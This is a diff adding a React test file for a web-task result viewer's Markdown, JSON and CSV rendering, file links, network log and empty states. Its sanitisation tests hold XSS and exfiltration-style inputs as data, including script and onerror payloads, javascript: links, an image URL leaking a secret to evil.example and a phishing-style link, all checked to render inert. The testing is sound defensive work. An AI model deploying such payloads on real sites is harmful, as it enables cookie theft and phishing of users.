@@ -1,0 +1,282 @@
+import { render, screen, within } from '@testing-library/react';
+import userEvent from '@testing-library/user-event';
+import { describe, expect, test, vi } from 'vitest';
+import { TaskResult } from 'webrun-react';
+import type { AnyRun } from 'webrun-react';
+import { parseCsv } from '../../src/components/csv.js';
+import {
+  completed,
+  csv,
+  failed,
+  files,
+  guardrail,
+  idle,
+  lamps,
+  lost,
+  markdown,
+  network,
+  queued,
+  refused,
+  running,
+  submitting,
+  terminated,
+} from '../../stories/states.js';
+
+const text = (message: string): AnyRun => completed({ message });
+const asCsv = (message: string): AnyRun =>
+  completed({ message }, { input: { taskDetails: 'x', outputType: 'structured_csv' } });
+const panel = (): HTMLElement => screen.getByRole('tabpanel');
+const foot = (): string => document.querySelector('.webrun-result-foot')?.textContent ?? '';
+/** The answer's renderer is loaded when it is first needed. */
+const shown = (selector: string): Promise<Element> =>
+  vi.waitFor(() => {
+    const found = panel().querySelector(selector);
+    if (!found) throw new Error(`${selector} is not shown: ${panel().innerHTML}`);
+    return found;
+  });
+
+describe('Markdown', () => {
+  test('becomes elements', async () => {
+    render(<TaskResult run={text(markdown)} />);
+    await shown('.webrun-prose');
+    expect(screen.getByRole('heading', { name: 'Three desk lamps under $50', level: 3 })).toBeInTheDocument();
+    expect(screen.getAllByRole('listitem')).toHaveLength(3);
+    expect(screen.getByText('$4.90').tagName).toBe('CODE');
+    const link = screen.getByRole('link', { name: 'shop.example/p/arc-2' });
+    expect(link).toHaveAttribute('href', 'https://shop.example/p/arc-2');
+    expect(link).toHaveAttribute('rel', 'noopener noreferrer');
+    expect(foot()).toBe('Text23 s · $0.0187');
+  });
+
+  test.each([
+    [
+      '**a** and __b__',
+      '<strong class="webrun-strong">a</strong> and <strong class="webrun-strong">b</strong>',
+    ],
+    ['*a* _b_ ~~c~~ `d`', '<em>a</em> <em>b</em> <s>c</s> <code>d</code>'],
+    ['snake_case_name and 2 * 3 * 4', 'snake_case_name and 2 * 3 * 4'],
+    [String.raw`\*not\* emphasis`, '*not* emphasis'],
+    ['**a `b` c**', '<strong class="webrun-strong">a <code>b</code> c</strong>'],
+    ['line one\nline two', 'line one line two'],
+    ['line one  \nline two', 'line one<br>line two'],
+  ])('%s → %s', async (source, html) => {
+    render(<TaskResult run={text(source)} />);
+    expect((await shown('.webrun-prose p')).innerHTML).toBe(html);
+  });
+
+  test.each([
+    ['- a\n- b\n  - c', '<ul><li>a</li><li>b<ul><li>c</li></ul></li></ul>'],
+    ['3. a\n4. b', '<ol start="3"><li>a</li><li>b</li></ol>'],
+    ['> a\n> b', '<blockquote><p>a b</p></blockquote>'],
+    ['a\n\n---\n\nb', '<p>a</p><hr><p>b</p>'],
+    ['```js\n**a**\n```', '<pre class="webrun-code" tabindex="0">**a**</pre>'],
+    ['###### a', '<h6>a</h6>'],
+  ])('%j is laid out', async (source, html) => {
+    render(<TaskResult run={text(source)} />);
+    expect((await shown('.webrun-prose')).innerHTML).toBe(html);
+  });
+
+  test('a table becomes a table', async () => {
+    render(<TaskResult run={text('| a | b |\n|---|---:|\n| x | **1** |')} />);
+    await shown('table');
+    expect(screen.getAllByRole('columnheader').map((cell) => cell.textContent)).toEqual(['a', 'b']);
+    expect(screen.getByRole('cell', { name: '1' })).toBeInTheDocument();
+  });
+
+  test.each([
+    '<img src=x onerror=alert(1)>',
+    '<script>alert(1)</script>',
+    '![x](https://evil.example/?q=secret)',
+    '[x](javascript:alert(1))',
+    '[x](JaVaScRiPt:alert(1))',
+    '[x](data:text/html,<script>alert(1)</script>)',
+    '[x](http://evil.example)',
+    '[x](https://user:pass@evil.example)',
+    '<iframe src="//evil.example"></iframe>',
+    '[x](//evil.example)',
+    '[x](/relative)',
+  ])('%s does nothing', async (source) => {
+    render(<TaskResult run={text(source)} />);
+    await shown('.webrun-prose');
+    expect(panel().querySelectorAll('img, script, iframe, a, object, embed, [src], [onerror]')).toHaveLength(
+      0,
+    );
+  });
+
+  test('a label that names another host does not hide where it leads', async () => {
+    render(<TaskResult run={text('[bank.example](https://evil.example/login)')} />);
+    expect((await shown('.webrun-prose p')).textContent).toBe('bank.example (evil.example)');
+  });
+
+  test('a bare address is a link without the full stop after it', async () => {
+    render(<TaskResult run={text('See https://shop.example/a_(b), or (https://shop.example/c).')} />);
+    await shown('a');
+    expect(screen.getAllByRole('link').map((link) => link.getAttribute('href'))).toEqual([
+      'https://shop.example/a_(b',
+      'https://shop.example/c',
+    ]);
+    expect(panel()).toHaveTextContent('See shop.example/a_(b), or (shop.example/c).');
+  });
+
+  test.each(['*', '_', '[', '**', '`', '![', '<', '](', '> ', '- ', '|', '(', '\\', 'https://', '~~a'])(
+    '100,000 characters of %s take no time',
+    async (piece) => {
+      const start = performance.now();
+      render(<TaskResult run={text(piece.repeat(100_000 / piece.length))} />);
+      await shown('.webrun-prose');
+      expect(performance.now() - start).toBeLessThan(5_000);
+    },
+  );
+
+  test('5 MB are cut on screen, and said to be', async () => {
+    render(<TaskResult run={text('word '.repeat(1_000_000))} />);
+    expect((await shown('pre code')).textContent).toHaveLength(100_000);
+    expect(foot()).toContain('First 100,000 of 5,000,000 characters. Copy has all.');
+  });
+});
+
+describe('JSON', () => {
+  test('is shown with its keys set apart, small objects on one line', async () => {
+    render(<TaskResult run={completed({ message: JSON.stringify(lamps), output: lamps })} />);
+    const code = await shown('pre code');
+    expect(code.textContent).toContain('"cheapest": "Arc 2",\n');
+    expect(code.textContent).toContain('    { "name": "Fold", "price": 39.5, "inStock": true },\n');
+    expect(JSON.parse(code.textContent ?? '')).toEqual(lamps);
+  });
+
+  test('what could not be read is shown as it came', async () => {
+    const message = '{ "cheapest": "Arc 2", ';
+    const run = completed(
+      { message, outputError: new SyntaxError('x') },
+      { input: { taskDetails: 'x', outputType: 'structured_json' } },
+    );
+    render(<TaskResult run={run} />);
+    expect((await shown('pre code')).textContent).toBe(message);
+    expect(foot()).toContain('Not valid JSON, shown as it came');
+  });
+
+  test('an object 1,000 deep is no danger', async () => {
+    let output: unknown = 1;
+    for (let depth = 0; depth < 1_000; depth++) output = { a: output };
+    render(<TaskResult run={completed({ message: '', output })} />);
+    expect((await shown('pre code')).textContent).toContain('…');
+  });
+});
+
+describe('CSV', () => {
+  test('is a table, numbers at the end of their columns', async () => {
+    render(<TaskResult run={asCsv(csv)} />);
+    await shown('table');
+    expect(screen.getAllByRole('columnheader').map((cell) => cell.textContent)).toEqual([
+      'Name',
+      'Price, USD',
+      'Rating',
+      'Reviews',
+      'Delivery',
+    ]);
+    expect(screen.getByRole('cell', { name: '1,204' })).toHaveAttribute('data-numeric');
+    expect(screen.getByRole('cell', { name: '3 days' })).not.toHaveAttribute('data-numeric');
+    expect(foot()).toContain('CSV, 4 rows, 5 columns');
+  });
+
+  test.each([
+    ['an unquoted thousands separator', 'name,price\nArc 2,1,204'],
+    ['a quote that does not close', 'name,price\n"Arc 2,32'],
+    ['a single column', 'name\nArc 2'],
+    ['prose', 'I found no table.'],
+  ])('%s: shown as it came, never in the wrong column', async (_, message) => {
+    render(<TaskResult run={asCsv(message)} />);
+    expect((await shown('pre code')).textContent).toBe(message);
+    expect(foot()).toContain('Not a regular table, shown as it came');
+  });
+
+  test.each([
+    ['a,b\n1,2', [['1', '2']]],
+    ['a;b\r\n1;"2;3"\r\n', [['1', '2;3']]],
+    ['a\tb\n"x ""y""\nz"\t2', [['x "y"\nz', '2']]],
+    ['\uFEFFa,b\n,', [['', '']]],
+    ['```csv\na,b\n1,2\n```', [['1', '2']]],
+  ])('%j is read', (source, rows) => {
+    expect(parseCsv(source)?.rows).toEqual(rows);
+  });
+
+  test('10,000 rows are cut at 500, and said to be', async () => {
+    render(<TaskResult run={asCsv(`a,b\n${'1,2\n'.repeat(10_000)}`)} />);
+    await shown('table');
+    expect(screen.getAllByRole('row')).toHaveLength(501);
+    expect(foot()).toContain('First 500 of 10,000 rows');
+  });
+});
+
+test('files have links where they may be followed, and say so where not', async () => {
+  const user = userEvent.setup();
+  render(
+    <TaskResult
+      run={completed({ files: [...files, { ...files[2]!, filename: 'x.exe', url: 'javascript:alert(1)' }] })}
+    />,
+  );
+  await user.click(screen.getByRole('tab', { name: 'Files 4' }));
+  const link = screen.getByRole('link', { name: 'Download lamps-under-50.csv' });
+  expect(link).toHaveAttribute('href', 'https://blobs.example/a');
+  expect(link).toHaveAttribute('rel', 'noopener noreferrer');
+  expect(screen.getAllByRole('link')).toHaveLength(2);
+  expect(screen.getByRole('button', { name: 'Download x.exe, no safe link' })).toHaveAttribute(
+    'aria-disabled',
+    'true',
+  );
+});
+
+test('the network log is text', async () => {
+  const user = userEvent.setup();
+  render(<TaskResult run={completed({ network })} />);
+  await user.click(screen.getByRole('tab', { name: 'Network 5' }));
+  expect(within(panel()).getByText('javascript:alert(document.cookie)')).toBeInTheDocument();
+  expect(within(panel()).getByRole('cell', { name: '0:16' })).toBeInTheDocument();
+  expect(screen.queryByRole('link')).toBeNull();
+  expect(foot()).toBe('5 addresses');
+});
+
+test('the tabs are moved through by arrow keys, Home and End', async () => {
+  const user = userEvent.setup();
+  render(<TaskResult run={text('Hello')} />);
+  await user.tab();
+  expect(screen.getByRole('tab', { name: 'Answer' })).toHaveFocus();
+  await user.keyboard('{ArrowRight}');
+  expect(screen.getByRole('tab', { name: 'Files 0' })).toHaveFocus();
+  expect(panel()).toHaveTextContent('No files');
+  await user.keyboard('{End}');
+  expect(panel()).toHaveTextContent('No addresses');
+  await user.keyboard('{ArrowRight}');
+  expect(screen.getByRole('tab', { name: 'Answer', selected: true })).toHaveFocus();
+});
+
+test('copies the whole answer as it came, and says so', async () => {
+  const user = userEvent.setup();
+  render(<TaskResult run={text(markdown)} />);
+  await shown('.webrun-prose');
+  await user.click(screen.getByRole('button', { name: 'Copy' }));
+  expect(await screen.findByRole('button', { name: 'Copied' })).toBeInTheDocument();
+  expect(await navigator.clipboard.readText()).toBe(markdown);
+});
+
+test.each<[string, AnyRun, string, string]>([
+  ['idle', idle(), 'No task yet', 'The answer will stand here.'],
+  ['queued', queued(), 'No answer yet', 'It will stand here as soon as the task is done.'],
+  ['submitting', submitting(), 'No answer yet', 'It will stand here as soon as the task is done.'],
+  ['running', running(), 'No answer yet', 'It will stand here as soon as the task is done.'],
+  ['guardrail', guardrail('Which?'), 'Waiting for you', 'The task goes on when its question is answered.'],
+  ['failed', failed('The page did not load.'), 'No answer', 'The page did not load.'],
+  ['terminated', terminated(), 'No answer', 'The task was stopped before it had one.'],
+  ['refused', refused(402), 'No answer', 'The task was not taken.'],
+  ['lost', lost('cut'), 'No answer', 'The task may have had one, but it cannot be known here.'],
+  [
+    'completed without words',
+    completed({ message: '' }),
+    'No text in the answer',
+    'The task is done, but WebRun sent no words. Files and addresses, if any, are in the other tabs.',
+  ],
+])('%s: says what is not there, and why', (_, run, title, help) => {
+  render(<TaskResult run={run} />);
+  expect(within(panel()).getByText(title)).toBeInTheDocument();
+  expect(within(panel()).getByText(help)).toBeInTheDocument();
+});
